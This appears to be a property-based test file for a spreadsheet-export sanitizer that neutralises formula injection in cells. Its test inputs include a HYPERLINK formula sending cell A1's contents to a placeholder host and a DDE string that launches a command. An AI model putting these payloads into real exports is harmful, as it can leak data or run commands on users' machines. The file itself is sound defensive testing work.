import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { safeCell } from '#server/workspace-client/history/export/safe-cell.ts';
import { rounds } from '#test/setup/rounds.ts';

const SIGNS = Array.from('=+-@＝＋－＠﹦﹢﹣﹫⁺⁻⁼₊₋₌−');
const UNSEEN = Array.from(' \t\r\n\v\f\0\u001b\u00a0\u00ad\u2003\u2028\u200b\u202e\u2060\u3000\ufeff\u3164');
const FORMULAS = ['SUM(1+1)', 'HYPERLINK("http://x.example/"&A1,"x")', "cmd|'/C calc'!A0", '1+1'];

const sign = fc.constantFrom(...SIGNS);
const unseen = fc.array(fc.constantFrom(...UNSEEN), { maxLength: 3 }).map((all) => all.join(''));
const formula = fc.constantFrom(...FORMULAS);
const lineBreak = fc.constantFrom('\n', '\r', '\r\n', '\u2028', '\u2029', '\v');

describe('a cell of an export', () => {
  it('begins with an apostrophe if it would begin as a formula, on one line or many', () => {
    fc.assert(
      fc.property(unseen, sign, formula, lineBreak, fc.string(), (before, first, call, end, rest) => {
        expect(safeCell(before + first + call).startsWith("'")).toBe(true);
        expect(safeCell(before + first + call + end + rest).startsWith("'")).toBe(true);
      }),
      { numRuns: rounds(500) },
    );
  });

  it('never begins with a tab or a line break, whatever follows', () => {
    fc.assert(
      fc.property(fc.constantFrom('\t', '\r', '\n'), fc.string(), (first, rest) => {
        expect(safeCell(first + rest)).toMatch(/^'/);
      }),
      { numRuns: rounds(100) },
    );
  });

  it('has no call or link at the beginning of a line, or after a semicolon or tab', () => {
    const call = fc.constantFrom(...FORMULAS.slice(0, 3));
    const separator = fc.constantFrom(';', '\t', '\n', '\r\n', ';"', ';""', '\n  ', ';\u200b');
    fc.assert(
      fc.property(fc.lorem(), separator, sign, call, fc.string(), (text, between, first, link, rest) => {
        const cell = safeCell(`${text}${between}${first}${link}\n${rest}`);
        expect(cell.startsWith(`${text}${between}'${first}${link}`)).toBe(true);
      }),
      { numRuns: rounds(500) },
    );
  });

  it('keeps its text: only apostrophes are added', () => {
    const text = fc.array(fc.oneof(fc.string(), sign, unseen, formula, lineBreak, fc.constant(';')));
    fc.assert(
      fc.property(text, (pieces) => {
        const whole = pieces.join('');
        expect(safeCell(whole).replaceAll("'", '')).toBe(whole.replaceAll("'", ''));
      }),
      { numRuns: rounds(300) },
    );
  });

  it.each([
    'Draft a notice.',
    'Compare:\n- the rent (clause 3)\n- the term; - the break right',
    'x = y(1); a@firm.example',
    "'=1+1",
    '{"num_files":2}',
    '',
  ])('stays unchanged if nothing begins a formula: %j', (text) => {
    expect(safeCell(text)).toBe(text);
  });

  it.each([' ', '-', '; ', '\n-', ';="'])('of a million characters is processed quickly: %j', (piece) => {
    const text = `x${piece.repeat(1_000_000 / piece.length)}`;
    expect(safeCell(text)).toBe(text);
  });
});
